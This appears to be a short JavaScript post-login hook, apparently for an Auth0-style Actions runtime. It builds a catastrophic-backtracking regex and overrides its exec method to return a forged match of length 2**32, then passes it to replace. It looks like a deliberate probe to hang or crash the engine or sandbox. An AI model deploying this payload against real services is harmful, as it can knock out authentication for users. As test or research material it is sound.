exports.onExecutePostLogin = async (event, api) => {
  const r = /(a+)+$/g;
  r.exec = () => ({ index: 0, length: 2 ** 32, 0: '' , get groups() { return r; } });
  'a'.replace(r, 'b');
};
